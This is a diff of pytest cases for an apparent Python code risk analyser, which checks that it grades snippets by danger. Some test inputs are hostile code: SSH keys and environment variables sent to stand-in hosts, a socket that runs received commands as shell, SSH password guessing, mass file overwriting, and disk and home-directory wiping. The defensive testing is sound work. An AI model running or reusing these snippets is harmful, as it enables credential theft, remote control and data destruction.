@@ -418,3 +418,228 @@ def test_round_seven_rules(code: str, expected: RiskLevel) -> None:
 )
 def test_file_servers_and_sweeps(code: str, expected: RiskLevel) -> None:
     assert level(code) is expected
+
+
+# -- rules added after holdout9/holdout10 (each a general rule, with its own examples) ----
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        # os.environ.get / os.getenv with a default: the default is used when unset, anything when set
+        ('import os\nwith open(os.environ.get("DISK", "/dev/sda"), "wb") as d:\n    d.write(b"x")', C),
+        ('import os\nopen(os.getenv("OUT", "out/result.txt"), "w")', L),  # LOW: when set, it is unknown
+        ('import os\neval(os.environ.get("HOOK", "None"))', H),  # the variable may hold any code
+        # XDG base directories default to the home directory
+        ('import os, shutil\nshutil.rmtree(os.path.join(os.environ["XDG_CONFIG_HOME"], "systemd"))', H),
+    ],
+)
+def test_environment_defaults(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected, analyze_python(code)
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        # Cls(args) runs __init__ with the arguments; obj.method() then sees self.x
+        (
+            """
+            import shutil
+            from pathlib import Path
+            class Cleaner:
+                def __init__(self, root):
+                    self.root = Path(root)
+                def purge(self):
+                    shutil.rmtree(self.root)
+            Cleaner(Path.home()).purge()
+            """,
+            C,
+        ),
+        (
+            """
+            import shutil
+            class Builder:
+                def __init__(self, out):
+                    self.out = out
+                def clean(self):
+                    shutil.rmtree(self.out)
+            b = Builder("dist")
+            b.clean()
+            """,
+            M,  # the definition alone (self.out unknown) is MEDIUM; the call adds only LOW
+        ),
+        # method arguments line up with the parameters after self
+        (
+            """
+            import subprocess
+            class Runner:
+                def run(self, cmd):
+                    subprocess.run(cmd, shell=True)
+            Runner().run("rm -rf ~")
+            """,
+            C,
+        ),
+        # class attributes / dataclass field defaults are what self.x reads
+        (
+            """
+            import shutil
+            class Job:
+                target = "/"
+                def go(self):
+                    shutil.rmtree(self.target)
+            Job().go()
+            """,
+            C,
+        ),
+    ],
+)
+def test_instances_of_local_classes(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected, analyze_python(textwrap.dedent(code))
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        # a method given secret data stores it in its object (msg.set_content, payload[k] = ...)
+        (
+            """
+            import os, smtplib
+            from email.message import EmailMessage
+            msg = EmailMessage()
+            msg.set_content(str(dict(os.environ)))
+            smtplib.SMTP("mail.example.net").send_message(msg)
+            """,
+            C,
+        ),
+        (
+            """
+            import os, requests
+            payload = {}
+            payload["k"] = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+            requests.post("https://example.com", json=payload)
+            """,
+            C,
+        ),
+        (
+            """
+            import os, requests
+            headers = {}
+            headers["Authorization"] = os.environ["TOKEN"]
+            requests.get("https://api.example.com", headers=headers)
+            """,
+            L,
+        ),
+    ],
+)
+def test_taint_through_containers(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected, analyze_python(textwrap.dedent(code))
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        # dict literals with constant keys: a dispatch table resolves to its callable
+        ('import os, shutil\nA = {"wipe": shutil.rmtree}\nA["wipe"](os.path.expanduser("~"))', C),
+        ('import shutil\nA = {"clean": shutil.rmtree}\nA["clean"]("build")', L),
+        # functools.partial binds arguments that the later call adds to
+        (
+            "import functools, subprocess\nsh = functools.partial(subprocess.call, shell=True)\n"
+            'sh("mkfs.ext4 /dev/sdb")',
+            C,
+        ),
+        ('import functools, subprocess\nrun = functools.partial(subprocess.run, check=True)\nrun(["make"])', L),
+        # argparse defaults: args.<dest> is the default unless given
+        (
+            'import argparse, shutil\np = argparse.ArgumentParser()\np.add_argument("--target", default="/")\n'
+            "shutil.rmtree(p.parse_args().target)",
+            C,
+        ),
+        (
+            'import argparse, shutil\np = argparse.ArgumentParser()\np.add_argument("--out-dir", default="out")\n'
+            "a = p.parse_args()\nshutil.rmtree(a.out_dir)",
+            M,
+        ),
+    ],
+)
+def test_dispatch_partial_and_argparse(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected, analyze_python(code)
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        # unpacking an archive writes under its destination
+        ('import tarfile\nwith tarfile.open("u.tgz") as t:\n    t.extractall("/")', H),
+        ('import tarfile\nwith tarfile.open("d.tgz") as t:\n    t.extractall("data")', S),
+        ('import shutil\nshutil.unpack_archive("x.zip", "/usr/local/bin")', H),
+        # asyncio streams: what the reader yields is network data
+        (
+            """
+            import asyncio
+            async def main():
+                r, w = await asyncio.open_connection("198.51.100.1", 4444)
+                line = await r.readline()
+                await asyncio.create_subprocess_shell(line.decode())
+            """,
+            C,
+        ),
+        # many buffers of known size built in a comprehension
+        ("bufs = [bytearray(10**9) for _ in range(1000)]", H),
+        ("bufs = [bytearray(1024) for _ in range(1000)]", S),
+        # passwords from a word list tried against a network login in a loop
+        (
+            """
+            import paramiko
+            c = paramiko.SSHClient()
+            for pw in open("words.txt"):
+                c.connect("198.51.100.2", username="root", password=pw.strip())
+            """,
+            H,
+        ),
+        (
+            """
+            import os, paramiko
+            c = paramiko.SSHClient()
+            for host in ["a.example.com", "b.example.com"]:
+                c.connect(host, username="ci", password=os.environ["CI_PASSWORD"])
+            """,
+            S,
+        ),
+    ],
+)
+def test_archives_streams_allocations_guessing(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected, analyze_python(textwrap.dedent(code))
+
+
+@pytest.mark.parametrize(
+    ("code", "expected"),
+    [
+        # commands written to the stdin of a shell child are analysed as shell
+        (
+            'import subprocess\np = subprocess.Popen(["bash"], stdin=subprocess.PIPE)\np.communicate(b"rm -rf ~\\n")',
+            C,
+        ),
+        ('import subprocess\np = subprocess.Popen(["bash"], stdin=subprocess.PIPE)\np.communicate(b"date\\n")', M),
+        ('import subprocess\nsubprocess.run(["sh"], input="rm -rf /")', C),
+        # importlib.util loading a downloaded file runs downloaded code; a local one is fine
+        (
+            'import importlib.util, urllib.request\nurllib.request.urlretrieve("https://x/m.py", "/tmp/m.py")\n'
+            'importlib.util.spec_from_file_location("m", "/tmp/m.py")',
+            C,
+        ),
+        ('import importlib.util\nimportlib.util.spec_from_file_location("conf", "conf.py")', S),
+        # pathlib write_bytes over every file a loop finds (ransomware shape)
+        ("from pathlib import Path\nfor d in Path.home().rglob('*.docx'):\n    d.write_bytes(b'x')", H),
+        ("from pathlib import Path\nfor d in Path('out').glob('*.txt'):\n    d.write_text('')", S),
+        # a socketserver handler's self.request is the client's socket
+        (
+            """
+            import socketserver, subprocess
+            class H(socketserver.BaseRequestHandler):
+                def handle(self):
+                    subprocess.run(self.request.recv(1024), shell=True)
+            """,
+            C,
+        ),
+    ],
+)
+def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> None:
+    assert level(code) is expected, analyze_python(textwrap.dedent(code))
